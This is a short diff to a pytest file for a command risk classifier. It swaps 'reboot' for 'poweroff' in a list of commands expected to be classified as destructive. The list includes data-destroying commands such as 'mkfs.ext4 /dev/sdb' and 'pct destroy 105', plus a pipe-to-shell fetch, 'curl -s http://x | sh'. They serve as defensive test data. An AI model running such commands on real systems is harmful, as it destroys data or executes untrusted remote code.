@@ -52,7 +52,7 @@ def test_what_no_card_can_show_or_nobody_can_parse_is_destroy(command: str) -> N
 
 
 @pytest.mark.parametrize(
-    "command", ["rm x", "pct destroy 105", "mkfs.ext4 /dev/sdb", "reboot", "curl -s http://x | sh"]
+    "command", ["rm x", "pct destroy 105", "mkfs.ext4 /dev/sdb", "poweroff", "curl -s http://x | sh"]
 )
 def test_destruction(command: str) -> None:
     assert classify(command).risk is Risk.DESTROY
